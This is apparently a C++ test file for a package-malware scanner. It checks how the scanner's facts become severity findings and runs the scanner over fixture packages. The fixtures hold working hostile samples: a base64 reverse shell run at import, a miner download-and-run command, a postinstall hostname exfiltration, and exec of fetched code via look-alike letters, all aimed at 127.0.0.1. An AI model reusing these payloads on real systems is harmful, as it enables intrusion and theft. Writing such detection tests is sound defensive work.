// batlehub-signals as a consumer of the sandbox port: its output read as hostile input, its
// facts weighed into findings (docs/verdicts.md, "batlehub-signals"), its plan as data, and
// the real scanner run over small hostile packages written here — under `none`, and under
// bwrap in its room (rooms/signals.toml), with the same findings.
#include <gtest/gtest.h>

#include "adapters/scanners/signals.h"
#include "real_scanners.h"

namespace batlehub::adapters {
namespace {

using core::Finding;
using core::PackageKind;
using core::ScannerError;
using core::Severity;
using namespace batlehub::testing;

SignalsScanner scanner() {
  return SignalsScanner(SignalsOptions{});
}

std::string fact(const std::string& f, const std::string& what, const std::string& file, int line,
                 const std::string& detail, const std::string& phase = "") {
  nlohmann::json j = {{"fact", f}, {"what", what}, {"file", file}, {"line", line}, {"detail", detail}};
  if (!phase.empty()) j["phase"] = phase;
  return j.dump() + "\n";
}
const std::string kDone = R"({"done":{"files_read":1,"bytes_read":10,"files_skipped":0,"facts_truncated":false}})"
                          "\n";

std::string weighed(const std::string& out) {
  auto facts = parse_signals_output(out);
  EXPECT_TRUE(facts) << facts.error().message;
  return facts ? describe(weigh_signals(*facts, "signals")) : "";
}

// --- the output, as hostile input ------------------------------------------------------------

TEST(Signals, output_without_its_done_line_is_a_run_cut_short) {
  auto r = parse_signals_output(fact("shell", "miner", "p/x.py", 3, "xmrig"));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ScannerError::Kind::kOutput);
  EXPECT_EQ(r.error().message, "batlehub-signals output: no done line: the scan was cut short");
}

TEST(Signals, a_line_that_is_not_a_fact_object_is_an_output_error_naming_its_line) {
  for (const auto& [out, says] : std::vector<std::pair<std::string, std::string>>{
           {"[1,2]\n" + kDone, "line 1 is not a JSON object"},
           {"{\"fact\":\"shell\"\n" + kDone, "line 1 is not a JSON object"},
           {fact("shell", "miner", "p/x.py", 3, "x") + "{\"what\":\"x\"}\n" + kDone,
            "line 2 has no \"fact\" or no \"file\""},
           {kDone + fact("shell", "miner", "p/x.py", 3, "x"), "line 2 follows the done line"},
           {std::string(kSignalsMaxLineBytes + 1, ' ') + "\n" + kDone, "line 1 is 16385 bytes, over 16384"},
       }) {
    auto r = parse_signals_output(out);
    ASSERT_FALSE(r) << says;
    EXPECT_EQ(r.error().message, "batlehub-signals output: " + says);
  }
  std::string many;
  for (std::size_t i = 0; i <= kSignalsMaxLines; ++i) many += fact("send", "http", "p/a.py", 1, "urlopen(");
  auto r = parse_signals_output(many + kDone);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().message, "batlehub-signals output: more than 4096 lines");
}

TEST(Signals, an_unknown_fact_or_shell_class_adds_nothing_and_hides_nothing) {
  EXPECT_EQ(weighed(fact("future-fact", "x", "p/a.py", 1, "?") + fact("shell", "new-kind", "p/a.py", 1, "?") +
                    fact("shell", "miner", "p/a.py", 2, "xmrig -o stratum+tcp://127.0.0.1:1") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-shell-miner] p/a.py:2 starts a cryptocurrency miner: "
            "xmrig -o stratum+tcp://127.0.0.1:1\n");
}

// --- the weighing -------------------------------------------------------------------------

TEST(Signals, a_decoded_payload_that_runs_is_high_and_one_step_up_in_setup_py) {
  EXPECT_EQ(weighed(fact("decoded-executed", "base64", "evil-1.0/evil/core.py", 4, "base64: import socket") +
                    fact("decoded-executed", "base64 → zlib", "evil-1.0/setup.py", 9, "base64 → zlib: import os") +
                    fact("decoded-code", "hex", "evil-1.0/evil/data.py", 2, "hex: import os") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] evil-1.0/evil/core.py:4 "
            "decodes a string (base64) that reads as code and runs it: base64: import socket\n"
            "signals malware_signal MALWARE_SIGNAL critical [signals-decoded-payload-executed] evil-1.0/setup.py:9 "
            "decodes a string (base64 → zlib) that reads as code and runs it: base64 → zlib: import os\n"
            "signals malware_signal MALWARE_SIGNAL medium [signals-decoded-code] evil-1.0/evil/data.py:2 decodes a "
            "string (hex) that reads as code: hex: import os\n");
}

// A bundler's output (the scanner's `generated`) is someone else's code copied in: a fact in
// it is one step down, as in a vendored copy, unless the file runs at install; another file's
// fact is untouched.
TEST(Signals, a_fact_in_a_bundlers_output_is_one_step_down_unless_it_runs_at_install) {
  EXPECT_EQ(weighed(fact("generated", "bundle", "package/dist/chunk.js", 7, "__commonJS(") +
                    fact("decoded-executed", "base64", "package/dist/chunk.js", 39, "base64: import http") +
                    fact("generated", "bundle", "package/dist/hook.js", 1, "__toESM(") +
                    fact("shell", "download-piped-to-shell", "package/dist/hook.js", 3, "curl x | sh", "install") +
                    fact("decoded-executed", "base64", "package/lib/run.js", 2, "base64: import http") + kDone),
            "signals malware_signal MALWARE_SIGNAL medium [signals-decoded-payload-executed] package/dist/chunk.js:39 "
            "decodes a string (base64) that reads as code and runs it: base64: import http\n"
            "signals malware_signal MALWARE_SIGNAL critical [signals-shell-download-piped-to-shell] "
            "package/dist/hook.js:3 pipes a download into an interpreter: curl x | sh\n"
            "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] package/lib/run.js:2 "
            "decodes a string (base64) that reads as code and runs it: base64: import http\n");
}

TEST(Signals, code_fetched_and_run_is_high_and_a_disguised_runner_high_where_another_disguised_name_is_medium) {
  EXPECT_EQ(
      weighed(fact("fetched-executed", "python", "smt-1.0/smt/core.py", 278, "target=exec, args=(code,)") +
              fact("disguised-name", "exec", "fun-1.0/setup.py", 19, "\u212f\U0001D4CD\u212f\U0001D4B8 reads as exec") +
              fact("disguised-name", "x", "fun-1.0/fun/maths.py", 3, "\U0001D465 reads as x") + kDone),
      "signals malware_signal MALWARE_SIGNAL high [signals-fetched-code-executed] smt-1.0/smt/core.py:278 runs "
      "code the network sends it (exec/eval of a download): target=exec, args=(code,)\n"
      "signals malware_signal MALWARE_SIGNAL critical [signals-disguised-name] fun-1.0/setup.py:19 writes a name "
      "in look-alike letters that Python reads as exec: \u212f\U0001D4CD\u212f\U0001D4B8 reads as exec\n"
      "signals malware_signal MALWARE_SIGNAL medium [signals-disguised-name] fun-1.0/fun/maths.py:3 writes a name "
      "in look-alike letters that Python reads as x: \U0001D465 reads as x\n");
}

// A function that posts the key it is given runs only when called: high wherever it lies,
// low in a test file, as every fact there is (finding_model's places).
TEST(Signals, a_wallet_key_sent_is_high_in_a_function_of_the_library) {
  EXPECT_EQ(weighed(fact("key-sent", "private_key", "tronkeep-0.0.1/tronkeep/main.py", 5,
                         "requests.post('https://keys.collector.example/tron', data)") +
                    fact("key-sent", "mnemonic", "w-1.0/tests/test_backup.py", 9, "s.get(f'https://vault.example/')") +
                    kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-wallet-key-sent] tronkeep-0.0.1/tronkeep/main.py:5 "
            "sends a wallet's private key or seed phrase (private_key) to an address written in the package: "
            "requests.post('https://keys.collector.example/tron', data)\n"
            "signals malware_signal MALWARE_SIGNAL low [signals-wallet-key-sent] w-1.0/tests/test_backup.py:9 "
            "sends a wallet's private key or seed phrase (mnemonic) to an address written in the package: "
            "s.get(f'https://vault.example/')\n");
}

// An address hidden by an encoding, in a file that sends: high in any function of the
// library (bip39-mnemonic-decrypt's upload runs when it is called), low in a test; in a file
// that sends nothing, a medium line for `batlehub why`.
TEST(Signals, a_hidden_address_in_a_file_that_sends_is_high_and_alone_medium) {
  EXPECT_EQ(
      weighed(fact("hidden-address", "base64", "b39-1.0/b39/__init__.py", 161, "base64: http://127.0.0.1:5000/p") +
              fact("send", "http", "b39-1.0/b39/__init__.py", 6, "from requests import") +
              fact("hidden-address", "base64", "b39-1.0/tests/test_b39.py", 3, "base64: cdn.example.com") +
              fact("send", "http", "b39-1.0/tests/test_b39.py", 4, "requests.get(") +
              fact("hidden-address", "hex", "b39-1.0/b39/hosts.py", 2, "hex: cdn.example.com") + kDone),
      "signals malware_signal MALWARE_SIGNAL high [signals-hidden-address-sent] b39-1.0/b39/__init__.py:161 "
      "sends to an address it hides (base64): base64: http://127.0.0.1:5000/p\n"
      "signals malware_signal MALWARE_SIGNAL low [signals-hidden-address-sent] b39-1.0/tests/test_b39.py:3 "
      "sends to an address it hides (base64): base64: cdn.example.com\n"
      "signals malware_signal MALWARE_SIGNAL medium [signals-hidden-address] b39-1.0/b39/hosts.py:2 "
      "hides an address (hex): hex: cdn.example.com\n");
}

TEST(Signals, a_browser_shortcut_hijacked_is_high_and_critical_in_setup_py) {
  EXPECT_EQ(weighed(fact("persist", "browser-extension", "crp-0.1/setup.py", 49, "--load-extension={p}") +
                    fact("persist", "browser-extension", "crp-0.1/crp/ext.py", 3, "--load-extension={p}") + kDone),
            "signals malware_signal MALWARE_SIGNAL critical [signals-browser-shortcut-hijacked] crp-0.1/setup.py:49 "
            "rewrites a browser's shortcuts to load an extension at every start: --load-extension={p}\n"
            "signals malware_signal MALWARE_SIGNAL high [signals-browser-shortcut-hijacked] crp-0.1/crp/ext.py:3 "
            "rewrites a browser's shortcuts to load an extension at every start: --load-extension={p}\n");
}

// dell-recovery (held-out-10): a wheel's top-level module posts to dnshook.site at import.
// A capture service named in a library's function, or a send with no capture service, at
// import, is no beacon.
TEST(Signals, a_send_to_a_capture_service_at_import_is_a_beacon) {
  EXPECT_EQ(weighed(fact("send", "http", "index.py", 9, "requests.post(") +
                    fact("send", "capture", "index.py", 9, "dnshook.site") +
                    fact("send", "http", "p-1.0/p/client.py", 4, "requests.post(") +
                    fact("send", "capture", "p-1.0/p/client.py", 4, "webhook.site") +
                    fact("send", "http", "p-1.0/p/__init__.py", 2, "requests.get(") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-capture-service-at-install-or-import] index.py:9 "
            "sends to a request-capture service (dnshook.site) from code that runs at install or import: a probe's "
            "beacon\n");
}

TEST(Signals, an_autostart_place_is_medium_in_a_library_and_high_in_an_install_hook) {
  EXPECT_EQ(
      weighed(fact("persist", "autostart", "package/lib/launch.js", 4, "library/launchagents") +
              fact("persist", "autostart", "package/build/stealer.js", 59, "start menu/programs/startup", "install") +
              kDone),
      "signals malware_signal MALWARE_SIGNAL medium [signals-autostart-written] package/lib/launch.js:4 names an "
      "autostart place (a program started at every login): library/launchagents\n"
      "signals malware_signal MALWARE_SIGNAL high [signals-autostart-written] package/build/stealer.js:59 names an "
      "autostart place (a program started at every login): start menu/programs/startup\n");
}

// A CLI that offers to run its vendor's installer (@railway/cli's bin, held-out-7) is
// medium; the same pipe at install, or in a module that runs at import, is high or more.
TEST(Signals, a_download_piped_to_shell_is_medium_in_a_cli_and_high_at_install_or_import) {
  EXPECT_EQ(weighed(fact("shell", "download-piped-to-shell", "package/bin/railway.js", 25, "curl x | sh") +
                    fact("shell", "download-piped-to-shell", "package/index.js", 3, "curl x | sh", "require") +
                    fact("shell", "download-piped-to-shell", "package/setup.js", 1, "curl x | sh", "install") + kDone),
            "signals malware_signal MALWARE_SIGNAL medium [signals-shell-download-piped-to-shell] "
            "package/bin/railway.js:25 pipes a download into an interpreter: curl x | sh\n"
            "signals malware_signal MALWARE_SIGNAL high [signals-shell-download-piped-to-shell] "
            "package/index.js:3 pipes a download into an interpreter: curl x | sh\n"
            "signals malware_signal MALWARE_SIGNAL critical [signals-shell-download-piped-to-shell] "
            "package/setup.js:1 pipes a download into an interpreter: curl x | sh\n");
}

TEST(Signals, form_secrets_collected_and_sent_are_high_wherever_the_file_is) {
  EXPECT_EQ(weighed(fact("collect", "form-secrets", "package/build/api_commands.js", 226, "document.forms") +
                    fact("send", "http", "package/build/api_commands.js", 234, "fetch(") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-form-secrets-sent] package/build/api_commands.js:226 "
            "collects form-secrets and sends (http): a page's password or card fields read on submit and sent: "
            "document.forms (line 226); fetch( (line 234)\n");
}

// A dropper's command line outside install and import is medium (a CI script's download of a
// tool, pymongo), and one step down again in tests or in a vendored copy.
TEST(Signals, a_dropper_command_in_a_packages_tests_or_a_vendored_copy_is_low) {
  EXPECT_EQ(weighed(fact("shell", "download-executed", "p-1.0/tests/test_x.py", 3, "wget …; chmod +x x") +
                    fact("shell", "download-executed", "p-1.0/p/_vendor/six.py", 3, "wget …; chmod +x x") + kDone),
            "signals malware_signal MALWARE_SIGNAL low [signals-shell-download-executed] p-1.0/tests/test_x.py:3 "
            "downloads a program and runs it: wget …; chmod +x x\n"
            "signals malware_signal MALWARE_SIGNAL low [signals-shell-download-executed] p-1.0/p/_vendor/six.py:3 "
            "downloads a program and runs it: wget …; chmod +x x\n");
}

TEST(Signals, a_shipped_program_started_detached_is_medium_in_a_library_and_high_at_install) {
  EXPECT_EQ(
      weighed(fact("shell", "program-started-detached", "package/lib/open.js", 3, "starts x.exe, detached") +
              fact("shell", "program-started-detached", "package/index.js", 9, "starts y.exe, detached", "install") +
              kDone),
      "signals malware_signal MALWARE_SIGNAL medium [signals-shell-program-started-detached] package/lib/open.js:3 "
      "starts a program in the background and lets it go: starts x.exe, detached\n"
      "signals malware_signal MALWARE_SIGNAL high [signals-shell-program-started-detached] package/index.js:9 "
      "starts a program in the background and lets it go: starts y.exe, detached\n");
}

TEST(Signals, host_identity_sent_decides_only_in_code_that_runs_at_install_or_import) {
  const std::string lib = fact("collect", "host", "p-1.0/p/report.py", 3, "gethostname(") +
                          fact("send", "http", "p-1.0/p/report.py", 9, "requests.post(");
  // A library function that reports its host (a logger, an error reporter): no finding.
  EXPECT_EQ(weighed(lib + kDone), "");
  // The same in the package's __init__.py, which every import runs: high.
  const std::string init = fact("collect", "host", "p-1.0/p/__init__.py", 3, "gethostname(") +
                           fact("send", "http", "p-1.0/p/__init__.py", 9, "requests.post(");
  EXPECT_EQ(weighed(init + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-collected-and-sent-at-install-or-import] "
            "p-1.0/p/__init__.py:3 collects host and sends (http), at import: gethostname( (line 3); requests.post( "
            "(line 9)\n");
  // In the script an npm postinstall runs: install code, one step up.
  const std::string hook = fact("collect", "host", "package/c.js", 2, "os.hostname(", "install") +
                           fact("send", "http", "package/c.js", 5, "https.request(", "install");
  EXPECT_EQ(weighed(hook + kDone),
            "signals malware_signal MALWARE_SIGNAL critical [signals-collected-and-sent-at-install-or-import] "
            "package/c.js:2 collects host and sends (http), at install: os.hostname( (line 2); https.request( (line "
            "5)\n");
}

TEST(Signals, a_token_store_read_and_sent_is_high_wherever_the_code_is_installed) {
  EXPECT_EQ(weighed(fact("collect", "token-store", "p-1.0/p/util.py", 7, "/local storage/leveldb") +
                    fact("send", "webhook", "p-1.0/p/util.py", 12, "discord.com/api/webhooks") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-token-store-sent] p-1.0/p/util.py:7 collects "
            "token-store and sends (webhook): a token store read and sent: /local storage/leveldb (line 7); "
            "discord.com/api/webhooks (line 12)\n");
  // Read but never sent, or sent from another file: nothing.
  EXPECT_EQ(weighed(fact("collect", "token-store", "p-1.0/p/util.py", 7, "login data") +
                    fact("send", "http", "p-1.0/p/net.py", 3, "urlopen(") + kDone),
            "");
}

TEST(Signals, credentials_or_the_environment_sent_to_a_capture_paste_or_chat_service_is_high_in_any_function) {
  // ase-jreq's shape: a CLI's function reads ~/.aws/credentials and posts them to pipedream.
  EXPECT_EQ(weighed(fact("collect", "credential-file", "h-0.0.3/h/cli.py", 28, ".aws/credentials") +
                    fact("send", "http", "h-0.0.3/h/cli.py", 42, "requests.post(") +
                    fact("send", "capture", "h-0.0.3/h/cli.py", 11, "pipedream.net") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-secrets-sent-to-a-channel] h-0.0.3/h/cli.py:28 "
            "collects credential-file and sends (capture, http): credentials, the environment or the host's identity "
            "sent to a capture, paste or chat service: .aws/credentials (line 28); requests.post( (line 42); "
            "pipedream.net (line 11)\n");
  // A notifier: the hostname to a chat webhook when a job ends, in a library function.
  EXPECT_EQ(weighed(fact("collect", "host", "k-0.1/k/discord.py", 5, "gethostname(") +
                    fact("send", "webhook", "k-0.1/k/discord.py", 9, "discord.com/api/webhooks") + kDone),
            "");
  // The host's identity to a request-capture service, in a module nothing imports (nvkvictim-poc).
  EXPECT_EQ(weighed(fact("collect", "host", "n-0.1/n/mymodule.py", 6, "gethostname(") +
                    fact("send", "http", "n-0.1/n/mymodule.py", 26, "requests.post(") +
                    fact("send", "capture", "n-0.1/n/mymodule.py", 15, "pipedream.net") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-secrets-sent-to-a-channel] n-0.1/n/mymodule.py:6 "
            "collects host and sends (capture, http): credentials, the environment or the host's identity sent to a "
            "capture, paste or chat service: gethostname( (line 6); requests.post( (line 26); pipedream.net (line "
            "15)\n");
  // A capture service named, and no send made in the file: a pentest tool's settings
  // (sqlmap's OOB_EXFIL_ENDPOINT beside the /etc/passwd it reads from a target), a docstring.
  EXPECT_EQ(weighed(fact("collect", "credential-file", "s-1.10/s/settings.py", 871, "/etc/passwd") +
                    fact("send", "capture", "s-1.10/s/settings.py", 1392, "webhook.site") + kDone),
            "");
  // Credentials sent to the provider's own API, in a library function: no finding.
  EXPECT_EQ(weighed(fact("collect", "credential-file", "a-1.0/a/session.py", 3, ".aws/credentials") +
                    fact("send", "http", "a-1.0/a/session.py", 40, "urlopen(") + kDone),
            "");
}

TEST(Signals, a_phones_files_sent_to_a_chat_service_are_high_in_any_function_and_to_an_api_nothing) {
  // blackspammerbd-termux's shape: /sdcard walked, each file posted to a Telegram bot's URL.
  EXPECT_EQ(weighed(fact("collect", "device-files", "b-1.0.1/b/monitor.py", 18, "/sdcard") +
                    fact("send", "http", "b-1.0.1/b/monitor.py", 12, "requests.post(") +
                    fact("send", "telegram", "b-1.0.1/b/monitor.py", 10, "api.telegram.org/bot") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-secrets-sent-to-a-channel] b-1.0.1/b/monitor.py:18 "
            "collects device-files and sends (http, telegram): credentials, the environment or the host's identity "
            "sent to a capture, paste or chat service: /sdcard (line 18); requests.post( (line 12); "
            "api.telegram.org/bot (line 10)\n");
  // Through a Telegram bot library's client, which sends without the URL written.
  EXPECT_EQ(weighed(fact("collect", "device-files", "b-1.0.1/b/monitor.py", 18, "/sdcard") +
                    fact("send", "telegram-bot", "b-1.0.1/b/monitor.py", 3, "TeleBot(") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-secrets-sent-to-a-channel] b-1.0.1/b/monitor.py:18 "
            "collects device-files and sends (telegram-bot): credentials, the environment or the host's identity "
            "sent to a capture, paste or chat service: /sdcard (line 18); TeleBot( (line 3)\n");
  // A phone's files uploaded to an API the caller configures, from a library function: nothing.
  EXPECT_EQ(weighed(fact("collect", "device-files", "s-2.0/s/sync.py", 8, "/sdcard") +
                    fact("send", "http", "s-2.0/s/sync.py", 20, "requests.post(") + kDone),
            "");
}

TEST(Signals, a_token_store_beside_a_telegram_bot_librarys_client_is_sent) {
  // loggutils' shape: Chrome's password store read, a TeleBot client in the same file.
  EXPECT_EQ(weighed(fact("collect", "token-store", "l-0.1.0/l.py", 102, "login data") +
                    fact("send", "telegram-bot", "l-0.1.0/l.py", 37, "TeleBot(") + kDone),
            "signals malware_signal MALWARE_SIGNAL high [signals-token-store-sent] l-0.1.0/l.py:102 collects "
            "token-store and sends (telegram-bot): a token store read and sent: login data (line 102); TeleBot( "
            "(line 37)\n");
}

TEST(Signals, the_scanners_words_in_a_summary_are_shown_escaped) {
  // The output is hostile like any scanner's: a class or a detail with a newline or a
  // control byte is printed escaped, never as a second line.
  const std::string out = weighed(fact("collect", "token-store\nforged", "p-1.0/p/__init__.py", 1, "x\x01") +
                                  fact("send", "http", "p-1.0/p/__init__.py", 2, "urlopen(") + kDone);
  EXPECT_EQ(out.find("\nforged"), std::string::npos) << out;
  EXPECT_NE(out.find("token-store\\nforged"), std::string::npos) << out;
  EXPECT_NE(out.find("x\\x01"), std::string::npos) << out;
}

// --- the plan ------------------------------------------------------------------------------

TEST(Signals, the_plan_extracts_the_artifact_at_scan_tree_and_runs_the_scanner_over_it_with_no_network) {
  core::ScanInput in;
  in.package = core::Package{PackageKind::kNpm, "x", "1.0.0", "test"};
  in.artifact = memory_blob("not read here", "x-1.0.0.tgz");
  auto plan = scanner().plan(in);
  ASSERT_TRUE(plan);
  ASSERT_EQ(plan->size(), 1u);
  const core::RunSpec& spec = plan->front();
  EXPECT_EQ(spec.argv, (std::vector<std::string>{"batlehub-signals", "scan/tree"}));
  EXPECT_FALSE(spec.network);
  ASSERT_EQ(spec.bundle.entries.size(), 1u);
  EXPECT_EQ(spec.bundle.entries[0].path.str(), "scan/tree");
  EXPECT_EQ(spec.label.scanner, "signals");
  core::ScanInput none;
  none.package = in.package;
  auto unsupported = scanner().plan(none);
  ASSERT_FALSE(unsupported);
  EXPECT_EQ(unsupported.error().kind, ScannerError::Kind::kUnsupported);
}

TEST(Signals, a_run_that_exits_non_zero_is_crashed_with_its_stderr) {
  core::ScanInput in;
  auto r = scanner().parse(in, {answered(2, "", "usage: batlehub-signals DIR\n")});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ScannerError::Kind::kCrashed);
  EXPECT_EQ(r.error().message, "batlehub-signals exited 2: usage: batlehub-signals DIR");
}

// --- the real scanner, over packages written here --------------------------------------------

const std::string kMonero = "4" + std::string(94, 'A');

core::ScanInput package(PackageKind kind, const std::string& name, const std::string& file,
                        const std::vector<TestEntry>& entries) {
  core::ScanInput in;
  in.package = core::Package{kind, name, "1.0.0", "test"};
  in.artifact = memory_blob(make_tgz(entries), file);
  return in;
}

// A reverse shell, base64-encoded and executed when the package is imported.
core::ScanInput reverse_shell_at_import() {
  return package(
      PackageKind::kPypi, "rshell", "rshell-1.0.0.tar.gz",
      {file("rshell-1.0.0/setup.py", "from setuptools import setup\nsetup(name='rshell')\n"),
       file("rshell-1.0.0/rshell/__init__.py",
            "import base64\n"
            "exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVj"
            "dCgoJzEyNy4wLjAuMScsOSkpO29zLmR1cDIocy5maWxlbm8oKSwwKTtzdWJwcm9jZXNzLmNhbGwoWycvYmluL3NoJywnLWkn"
            "XSk='))\n")});
}

// A miner fetched, made executable and started from a function, as a command line.
core::ScanInput miner_in_a_function() {
  return package(PackageKind::kPypi, "fastcalc", "fastcalc-1.0.0.tar.gz",
                 {file("fastcalc-1.0.0/fastcalc/core.py",
                       "import subprocess\n\n"
                       "def speedup():\n"
                       "    subprocess.Popen('wget http://127.0.0.1:9/xm -O /tmp/xm && chmod +x /tmp/xm && "
                       "/tmp/xm -o stratum+tcp://127.0.0.1:9 -u " +
                           kMonero + "', shell=True)\n")});
}

// An npm postinstall that collects the host's identity and sends it.
core::ScanInput host_sent_by_postinstall() {
  return package(PackageKind::kNpm, "hostsend", "hostsend-1.0.0.tgz",
                 {file("package/package.json",
                       R"({"name":"hostsend","version":"1.0.0","scripts":{"postinstall":"node collect.js"}})"),
                  file("package/collect.js",
                       "const os = require('os');\nconst https = require('https');\n"
                       "const d = JSON.stringify({h: os.hostname(), u: os.userInfo().username, d: __dirname});\n"
                       "const r = https.request({hostname: '127.0.0.1', port: 9, method: 'POST'});\n"
                       "r.write(d);\nr.end();\n"),
                  file("package/index.js", "module.exports = 1;\n")});
}

// A setup.py that runs what a fixed address serves, under an exec written in look-alike
// letters (Python reads ℯ𝓍ℯ𝒸 as exec).
core::ScanInput disguised_exec_of_a_download_at_install() {
  return package(PackageKind::kPypi, "funtools", "funtools-1.0.0.tar.gz",
                 {file("funtools-1.0.0/setup.py",
                       "import urllib.request\n"
                       "from setuptools import setup\n"
                       "code = urllib.request.urlopen('http://127.0.0.1:9/p').read()\n"
                       "\u212f\U0001D4CD\u212f\U0001D4B8(code)\n"
                       "setup(name='funtools')\n")});
}

// What ordinary libraries do: a logger that names its host, a client that sends, a build
// script that runs git — none of it together in code that runs at install or import.
core::ScanInput ordinary_library() {
  return package(
      PackageKind::kNpm, "ordinary", "ordinary-1.0.0.tgz",
      {file("package/package.json", R"({"name":"ordinary","version":"1.0.0","main":"lib/index.js"})"),
       file("package/lib/index.js",
            "const https = require('https');\nmodule.exports = (u) => https.get(u);\n"
            "const b = Buffer.from('aGVsbG8gd29ybGQsIHRoaXMgaXMgZGF0YQ==', 'base64');\n"
            "/a'b/.exec('x');\n"),
       file("package/lib/log.js", "const os = require('os');\nexports.host = os.hostname();\n"),
       file("package/build.js", "const cp = require('child_process');\ncp.execSync('git describe --tags');\n")});
}

const std::string kExpected[] = {
    "signals malware_signal MALWARE_SIGNAL high [signals-shell-reverse-shell] rshell-1.0.0/rshell/__init__.py:2 binds "
    "a shell to a network connection (a reverse shell): decoded (base64): import "
    "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
    "sh','-i'])\n"
    "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] rshell-1.0.0/rshell/__init__.py:2 "
    "decodes a string (base64) that reads as code and runs it: base64: import "
    "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
    "sh','-i'])\n",
    "signals malware_signal MALWARE_SIGNAL medium [signals-shell-download-executed] fastcalc-1.0.0/fastcalc/core.py:4 "
    "downloads a program and runs it: wget http://127.0.0.1:9/xm -O /tmp/xm; chmod +x /tmp/xm\n"
    "signals malware_signal MALWARE_SIGNAL high [signals-shell-miner] fastcalc-1.0.0/fastcalc/core.py:4 starts a "
    "cryptocurrency miner: /tmp/xm -o stratum+tcp://127.0.0.1:9 -u " +
        kMonero + "\n",
    "signals malware_signal MALWARE_SIGNAL critical [signals-collected-and-sent-at-install-or-import] "
    "package/collect.js:3 collects host and sends (http), at install: os.hostname( (line 3); os.userInfo( (line 3); "
    "https.request( (line 4)\n",
    "signals malware_signal MALWARE_SIGNAL critical [signals-disguised-name] funtools-1.0.0/setup.py:4 writes a name "
    "in look-alike letters that Python reads as exec: \u212f\U0001D4CD\u212f\U0001D4B8 reads as exec\n"
    "signals malware_signal MALWARE_SIGNAL critical [signals-fetched-code-executed] funtools-1.0.0/setup.py:4 runs "
    "code the network sends it (exec/eval of a download): exec(code)\n",
    "",
};

std::vector<core::ScanInput> packages() {
  return {reverse_shell_at_import(), miner_in_a_function(), host_sent_by_postinstall(),
          disguised_exec_of_a_download_at_install(), ordinary_library()};
}

class SignalsReal : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    scratch_ = new Scratch();
    rooms_ = scratch_->root() / "rooms";
    if (bwrap_unavailable().empty()) {
      room_error_ = new std::string(
          build_room_from(rooms_, "signals", "signals",
                          std::string("--binary ") + BATLEHUB_SIGNALS_BIN + ":/usr/local/bin/batlehub-signals"));
    }
  }
  static void TearDownTestSuite() {
    delete scratch_;
    scratch_ = nullptr;
    delete room_error_;
    room_error_ = nullptr;
  }
  void need_bwrap() {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    ASSERT_TRUE(room_error_ && room_error_->empty()) << (room_error_ ? *room_error_ : "");
  }
  // `none`, with the build's scanner on its PATH.
  std::unique_ptr<NoneRuntime> none() {
    NoneOptions o;
    o.scratch_dir = scratch_->work().string();
    o.scanner_path = fs::path(BATLEHUB_SIGNALS_BIN).parent_path().string() + ":/usr/bin:/bin";
    return std::move(NoneRuntime::create(o, [](std::string_view) { return std::optional<std::string>("1"); })).value();
  }

  static Scratch* scratch_;
  static fs::path rooms_;
  static std::string* room_error_;
};
Scratch* SignalsReal::scratch_ = nullptr;
fs::path SignalsReal::rooms_;
std::string* SignalsReal::room_error_ = nullptr;

TEST_F(SignalsReal, under_none_the_hostile_packages_give_their_findings_and_the_ordinary_one_none) {
  // The agent bounds the scanner's RLIMIT_DATA under every runtime, and AddressSanitizer's
  // shadow memory (terabytes reserved) fits under no such bound: a sanitizer build's scanner
  // cannot start. Its library is checked under the sanitizers by signals_test, in process.
  if (!BATLEHUB_AGENT_STATIC) {
    GTEST_SKIP() << "this build's batlehub-signals is built with AddressSanitizer, whose shadow memory no "
                    "RLIMIT_DATA admits; the release build runs it (signals_test checks its library here)";
  }
  auto rt = none();
  auto ps = packages();
  for (std::size_t i = 0; i < ps.size(); ++i) {
    auto got = core::scan_with(scanner(), *rt, ps[i]);
    ASSERT_TRUE(got) << ps[i].package.name << ": " << got.error().message;
    EXPECT_EQ(describe(*got), kExpected[i]) << ps[i].package.name;
  }
}

TEST_F(SignalsReal, under_bwrap_in_its_room_the_findings_are_the_same) {
  BATLEHUB_NEED_BWRAP();
  auto rt = bwrap_runtime(*scratch_, rooms_);
  auto ps = packages();
  for (std::size_t i = 0; i < ps.size(); ++i) {
    auto got = core::scan_with(scanner(), *rt, ps[i]);
    ASSERT_TRUE(got) << ps[i].package.name << ": " << got.error().message;
    EXPECT_EQ(describe(*got), kExpected[i]) << ps[i].package.name;
  }
}

TEST_F(SignalsReal, its_room_holds_the_scanner_and_the_agent_and_nothing_else) {
  BATLEHUB_NEED_BWRAP();
  std::vector<std::string> files;
  for (const auto& e : fs::recursive_directory_iterator(rooms_ / "signals")) {
    if (e.is_regular_file()) files.push_back(fs::relative(e.path(), rooms_ / "signals").string());
  }
  std::sort(files.begin(), files.end());
  EXPECT_EQ(files, (std::vector<std::string>{"usr/local/bin/batlehub-sandbox", "usr/local/bin/batlehub-signals"}));
}

}  // namespace
}  // namespace batlehub::adapters
